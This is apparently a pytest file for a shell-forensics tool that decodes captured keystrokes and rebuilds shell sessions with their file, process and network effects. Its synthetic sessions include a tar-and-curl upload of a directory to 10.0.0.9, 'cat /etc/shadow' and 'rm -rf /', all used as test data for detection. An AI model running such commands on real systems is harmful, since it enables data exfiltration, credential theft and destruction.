"""Unit tests of shell capture decoding and session reconstruction (no root needed).

Decoding: the ``struct shell_rec`` layout in bpf/shell.h against the numpy
dtype, keystroke replay, line assembly across drains, withheld collapsing.
Sessions: synthetic captures (fcap.capture.synth) with a known process tree.
"""

from __future__ import annotations

import struct
from pathlib import Path

import duckdb
import numpy as np
import pytest
from fcap.analyze.sessions import create_views, list_sessions, transcript, tty_name
from fcap.analyze.sessions.render import open_flags, sessions_table, transcript_text
from fcap.capture import shell_decode as sd
from fcap.capture.reader import open_capture
from fcap.capture.synth import BASE_TS, make_capture

from fcap.errors import UsageError

# ---- capture-side decoding --------------------------------------------------

_CSIZE = {"unsigned long long": 8, "unsigned int": 4, "unsigned short": 2, "unsigned char": 1,
          "char": 1}  # fmt: skip


def test_record_layout_matches_header() -> None:
    members, hdr = sd.header_layout()
    assert [m for m, _ in members] == list(sd.REC_DTYPE.names)
    assert hdr == sd.HDR_SIZE == sd.REC_DTYPE.itemsize
    off = 0
    for name, ctype in members:
        size = 16 if name == "comm" else _CSIZE[ctype]
        off = (off + min(size, 8) - 1) // min(size, 8) * min(size, 8) if name != "comm" else off
        assert sd.REC_DTYPE.fields[name][1] == off, name
        assert sd.REC_DTYPE.fields[name][0].itemsize == size, name
        off += size


def _rec(kind: int, data: bytes = b"", *, ts: int = 1, pid: int = 10, tty: int = (136 << 20) | 3,
         flags: int = sd.F_ICANON | sd.F_ECHO | sd.F_HAVE_TTY, comm: bytes = b"sh") -> bytes:
    if data.endswith((b"\n", b"\r")):
        flags |= sd.F_EOL
    head = struct.pack("<QQIIIIIIIIIIIHBB16s", ts, 77, pid, pid, 1, 0, 0, 1000, pid, pid, tty,
                       len(data), 0, 0, kind, flags, comm)  # fmt: skip
    return head + data


def test_keystroke_replay() -> None:
    assert sd.apply_keystrokes(b"ls -lx\x7fa") == ("ls -la", False)
    assert sd.apply_keystrokes(b"rm -rf /\x15echo ok") == ("echo ok", False)
    assert sd.apply_keystrokes(b"echo one two\x17three") == ("echo one three", False)
    assert sd.apply_keystrokes("é\x7fe".encode()) == ("e", False)  # one char, two bytes
    assert sd.apply_keystrokes(b"\x1b[12;1Recho") == ("echo", False)  # cursor report
    assert sd.apply_keystrokes(b"ec\x1b[Dho") == ("ecHo".lower(), True)  # arrow: approximate
    assert sd.apply_keystrokes(b"cat /et\tpasswd")[1] is True  # tab completion


def test_lines_canonical_raw_and_across_drains() -> None:
    asm = sd.LineAssembler(wall_offset_ns=1000)
    canon = _rec(sd.K_TTYREAD, b"echo hi | cat\n", ts=5, pid=1)
    raw = sd.F_HAVE_TTY  # raw mode: no ICANON, no ECHO
    keys = [_rec(sd.K_TTYREAD, bytes([c]), ts=10 + i, pid=2, flags=raw, comm=b"busybox")
            for i, c in enumerate(b"ls -x\x7fl")]  # fmt: skip
    b1 = asm.feed(*sd.split_records([canon, *keys]))
    assert b1.column("text").to_pylist() == ["echo hi | cat"]
    assert b1.column("ts").to_pylist() == [1005]
    assert b1.column("flags_aux").to_pylist() == [sd.FLAG_CANONICAL]
    enter = _rec(sd.K_TTYREAD, b"\r", ts=30, pid=2, flags=raw, comm=b"busybox")
    b2 = asm.feed(*sd.split_records([enter]))
    assert b2.column("text").to_pylist() == ["ls -l"]
    assert b2.column("flags_aux").to_pylist() == [sd.FLAG_KEYSTROKES]
    assert b2.column("comm").to_pylist() == ["busybox"]
    assert b2.column("tty").to_pylist() == [(136 << 8) | 3]
    assert b2.column("syscall").to_pylist() == ["shell_line"]


def test_ctrl_c_discards_and_readline_rows() -> None:
    asm = sd.LineAssembler()
    raw = sd.F_HAVE_TTY
    recs = [_rec(sd.K_TTYREAD, b"rm -rf /\x03", ts=1, flags=raw),
            _rec(sd.K_TTYREAD, b"id\r", ts=2, flags=raw),
            _rec(sd.K_READLINE, b"echo 'a b'", ts=3, pid=11, comm=b"bash")]  # fmt: skip
    b = asm.feed(*sd.split_records(recs))
    assert b.column("text").to_pylist() == ["id", "echo 'a b'"]
    assert b.column("flags_aux").to_pylist() == [sd.FLAG_KEYSTROKES, sd.FLAG_READLINE]


def test_withheld_reads_collapse_to_one_marker() -> None:
    asm = sd.LineAssembler()
    off = sd.F_HAVE_TTY | sd.F_ICANON  # canonical, echo off
    # bash's `read` reads one byte per read(); the kernel sends no bytes, only markers
    recs = [_rec(sd.K_WITHHELD, b"", ts=i, flags=off) for i in range(5)]
    recs.append(_rec(sd.K_WITHHELD, b"", ts=6, flags=off | sd.F_EOL))
    b = asm.feed(*sd.split_records(recs))
    assert b.column("syscall").to_pylist() == ["shell_line_withheld"]
    assert b.column("text").to_pylist() == [None]


# ---- sessions over synthetic captures ------------------------------------------

SH, CHILD, GRAND, OTHER = 500, 501, 502, 600
CID = "ab" * 32
T = BASE_TS


def _ev(ts: int, pid: int, syscall: str, **kw: object) -> dict:
    return {"ts": T + ts, "pid": pid, "tid": kw.pop("tid", pid), "syscall": syscall, **kw}


def _capture(tmp_path: Path) -> Path:
    tty = (136 << 8) | 4
    line = {"tty": tty, "sid": SH, "comm": "bash", "flags_aux": 1, "ppid": 400, "uid": 1000,
            "loginuid": 1000}  # fmt: skip
    events = [
        _ev(100, SH, "shell_line", text='echo "hello world" > example.txt', **line),
        _ev(110, SH, "openat", res=3, fd=3, path="/home/al/example.txt", a2=0o1101, comm="bash"),
        _ev(200, SH, "shell_line", text="tar czf /tmp/x.tgz . \\", **line),
        _ev(210, SH, "shell_line", text="  && curl -T /tmp/x.tgz http://10.0.0.9/", **line),
        _ev(220, CHILD, "clone", res=0, ppid=SH, comm="bash"),
        _ev(230, CHILD, "execve", res=0, ppid=SH, exe="/usr/bin/tar", argv=["tar", "czf"],
            comm="tar"),
        _ev(240, CHILD, "openat", res=4, path="/tmp/x.tgz", a2=0o1101, ppid=SH, comm="tar"),
        _ev(250, GRAND, "clone", res=0, ppid=CHILD, comm="tar"),
        _ev(260, GRAND, "execve", res=0, ppid=CHILD, exe="/usr/bin/gzip", argv=["gzip"],
            comm="gzip"),
        _ev(270, OTHER, "openat", res=3, path="/tmp/unrelated", a2=0o1101, comm="other"),
        _ev(280, SH, "openat", res=3, path="/etc/hosts", a2=0, comm="bash"),  # a read: no effect
        _ev(300, SH, "shell_line_withheld", **line),
        _ev(400, SH, "shell_line", text="rm example.txt", **line),
        # the tar child, still running after the next line: still the tar command's effect
        _ev(410, CHILD, "connect", res=0, raddr="10.0.0.9", rport=80, sock_family=2,
            ppid=SH, comm="tar"),
        _ev(420, SH + 10, "clone", res=0, ppid=SH, comm="bash"),
        _ev(430, SH + 10, "execve", res=0, ppid=SH, exe="/usr/bin/rm", argv=["rm", "example.txt"],
            comm="rm"),
        _ev(440, SH + 10, "unlinkat", res=0, path="/home/al/example.txt", comm="rm"),
        _ev(445, SH + 10, "procexit", res=0, comm="rm"),
        # pid reuse: another process gets rm's pid after it exited: not an effect
        _ev(460, SH + 10, "openat", res=3, path="/tmp/reused", a2=0o1101, comm="cron"),
        # a shell in a container
        _ev(500, 700, "shell_line", text="cat /etc/shadow", tty=(136 << 8), sid=700, comm="sh",
            flags_aux=4, ppid=650, container_id=CID, vpid=7),
    ]
    processes = [
        {"pid": 400, "ppid": 300, "comm": "sudo", "exe": "sudo"},
        {"pid": 300, "ppid": 200, "comm": "bash", "exe": "-bash"},
        {"pid": 200, "ppid": 1, "comm": "sshd", "exe": "sshd"},
        {"pid": 650, "ppid": 1, "comm": "containerd-shim", "exe": "containerd-shim-runc-v2"},
    ]
    containers = [{"id": CID, "name": "web", "image": "nginx:1.25", "pod_name": "web-0",
                   "pod_namespace": "prod"}]  # fmt: skip
    users = [{"uid": 0, "name": "root"}, {"uid": 1000, "name": "al"}]
    return make_capture(tmp_path / "c.parquet", events, processes=processes,
                        containers=containers, users=users)  # fmt: skip


@pytest.fixture()
def con(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    c = duckdb.connect()
    open_capture(_capture(tmp_path)).attach(c)
    return c


def test_sessions_who_where_how(con: duckdb.DuckDBPyConnection) -> None:
    s1, s2 = list_sessions(con)
    assert (s1.shell_pid, s1.user_name, s1.login_user_name, s1.tty_name) == (SH, "al", "al", "pts/4")
    assert s1.entered_via == "sudo"  # nearest: sudo, then bash, then sshd
    assert s1.ancestors[:3] == ("sudo", "bash", "sshd")
    assert s1.where == "host" and s1.withheld_lines == 1
    assert s2.entered_via == "container exec"
    assert (s2.container_name, s2.k8s_pod_name, s2.k8s_ns_name) == ("web", "web-0", "prod")
    assert s2.where == "container web (pod prod/web-0)"
    table = sessions_table([s1, s2])
    assert "sudo" in table and "pod prod/web-0" in table


def test_commands_and_effects(con: duckdb.DuckDBPyConnection) -> None:
    t = transcript(con, 1)
    lines = [c.line for c in t.commands]
    assert lines == ['echo "hello world" > example.txt',
                     "tar czf /tmp/x.tgz . \\\n  && curl -T /tmp/x.tgz http://10.0.0.9/",
                     "rm example.txt"]  # fmt: skip
    echo, tar, rm = t.commands
    assert [(e.kind, e.target, e.pid) for e in echo.effects] == [
        ("file", "/home/al/example.txt", SH)
    ]
    assert open_flags(echo.effects[0].open_flags) == "O_WRONLY|O_CREAT|O_TRUNC"
    got = [(e.kind, e.syscall, e.pid) for e in tar.effects]
    assert got == [("process", "execve", CHILD), ("file", "openat", CHILD),
                   ("process", "execve", GRAND), ("network", "connect", CHILD)]  # fmt: skip
    assert tar.inputs == ((T + 300, None),)  # the withheld line was input to the command
    assert [(e.kind, e.target) for e in rm.effects] == [
        ("process", "/usr/bin/rm"), ("file", "/home/al/example.txt")
    ]
    text = transcript_text(t)
    assert "[input withheld: terminal echo was off]" in text
    assert "/tmp/unrelated" not in text and "/etc/hosts" not in text
    assert "/tmp/reused" not in text


def test_views_and_errors(con: duckdb.DuckDBPyConnection) -> None:
    create_views(con)
    n = con.execute("SELECT count(*), sum(processes), sum(file_changes), sum(connections) "
                    "FROM shell_commands").fetchall()  # fmt: skip
    assert n == [(4, 3, 3, 1)]
    with pytest.raises(UsageError, match="no session 9"):
        transcript(con, 9)


def test_tty_names() -> None:
    assert tty_name((136 << 8) | 2) == "pts/2"
    assert tty_name((137 << 8) | 1) == "pts/257"
    assert tty_name((4 << 8) | 1) == "tty1"
    assert tty_name((4 << 8) | 64) == "ttyS0"
    assert tty_name(0) == "?"
    assert np.uint32(sd.encode_tty(np.array([(136 << 20) | 300]))[0]) == (300 & 0xFF) | (
        136 << 8
    ) | ((300 & ~0xFF) << 12)
